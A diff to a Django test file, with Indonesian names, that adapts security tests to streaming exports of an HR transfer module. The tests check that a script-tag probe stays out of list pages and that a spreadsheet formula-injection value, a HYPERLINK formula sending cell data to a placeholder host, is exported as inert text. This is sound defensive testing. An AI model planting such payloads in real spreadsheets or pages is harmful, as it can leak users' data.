@@ -564,7 +564,8 @@ def test_parameter_sampah_di_daftar_dan_ekspor(w, sasaran, query, peran):
     for nama in ("mutasi:daftar", "mutasi:ekspor", "mutasi:batch_daftar"):
         r = c.get(reverse(nama) + "?" + query)
         assert r.status_code == 200, (nama, query, r.status_code)
-        assert b"<script>alert(1)" not in r.content
+        isi = b"".join(r.streaming_content) if r.streaming else r.content
+        assert b"<script>alert(1)" not in isi
 
 
 @pytest.mark.parametrize("query", ["status=nonsense", "status=DIAJUKAN&page=abc", f"page={BESAR}", "page=0"])
@@ -902,6 +903,7 @@ def test_ekspor_tidak_menjalankan_rumus_dari_isian(w):
         alasan='=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
     )
     r = w.klien["hr"].get(reverse("mutasi:ekspor"))
-    ws = load_workbook(BytesIO(r.content)).active
+    ws = load_workbook(BytesIO(b"".join(r.streaming_content))).active
     sel = next(row[14] for row in ws.iter_rows(min_row=2) if row[0].value == u.nomor)
-    assert sel.data_type == "s" and sel.value.startswith("'=")
+    # a text cell holding exactly what was typed (inti.lembar), never a live formula
+    assert sel.data_type == "s" and sel.value == '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
